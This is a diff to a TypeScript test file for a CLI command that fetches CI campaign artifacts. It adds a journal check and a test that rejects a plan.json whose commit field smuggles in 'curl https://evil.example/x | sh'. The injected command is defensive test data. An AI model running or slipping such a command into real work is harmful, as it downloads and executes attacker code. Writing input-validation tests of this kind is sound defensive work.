@@ -18,6 +18,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { fetchCommand } from '../../src/cli/fetch-command.js';
 import { parseRerun } from '../../src/core/campaign/rerun.js';
+import type { RunRecord } from '../../src/core/campaign/journal.js';
 import { planDocument, planZip, resultsZip, type RunSpec } from '../helpers/campaign-artifacts.js';
 import { FakeClock, runClient } from '../helpers/client-cli.js';
 import {
@@ -132,6 +133,16 @@ test('fetch: the results artifact through its redirect, into OUT, with a summary
     JSON.parse(JSON.stringify(PLAN)),
   );
   assert.deepEqual(readdirSync(cwd), ['out'], 'no staging folder left behind');
+  // the journal records the result files as they are here (their times are the extraction's;
+  // the artifact of an earlier version records no content hash): a run on OUT keeps the runs
+  const ok = readFileSync(join(out, 'journal.jsonl'), 'utf8')
+    .trim()
+    .split('\n')
+    .map((l) => JSON.parse(l) as RunRecord)
+    .filter((rec) => rec.status === 'ok');
+  assert.equal(ok.length, 2);
+  for (const rec of ok)
+    for (const f of rec.files) assert.equal(statSync(join(out, f.path)).mtimeMs, f.mtimeMs, f.path);
 });
 
 test('after "Re-run failed jobs": the results of the latest attempt (PREFIX-results-attempt-N), not the first attempt\'s', async () => {
@@ -446,6 +457,26 @@ test('a token that is a short test value (GITHUB_TOKEN=e) leaves the messages re
   } finally {
     rmSync(cwd, { recursive: true, force: true });
   }
+});
+
+test("an artifact's plan.json whose commit is no commit (a command to paste) is bad input naming the file: nothing is fetched", async () => {
+  const commit = 'abc123 && curl https://evil.example/x | sh #';
+  const { r, cwd } = await fetch(
+    [
+      ...['run-success', 'artifacts-all', 'artifact-1103-redirect', 'artifact-1100-redirect'].map(
+        exchange,
+      ),
+      blob(1103, resultsZip(FIRST)),
+      blob(1100, planZip({ ...PLAN, commit })),
+    ],
+    ['30433642', '-o', 'out'],
+  );
+  assert.equal(r.code, 1, r.stdout + r.stderr);
+  assert.match(
+    r.stderr,
+    /the plan artifact of run 30433642: plan\.json: commit "abc123 && curl https:\/\/evil\.example\/x \| sh #" is not a commit \(7 to 64 hex digits\); nothing was fetched \(\S*out is as it was\)/,
+  );
+  assert.deepEqual(readdirSync(cwd), [], 'nothing written');
 });
 
 test("an artifact's rerun.json whose commit is no commit (a command to paste) is bad input naming the file: nothing is fetched", async () => {
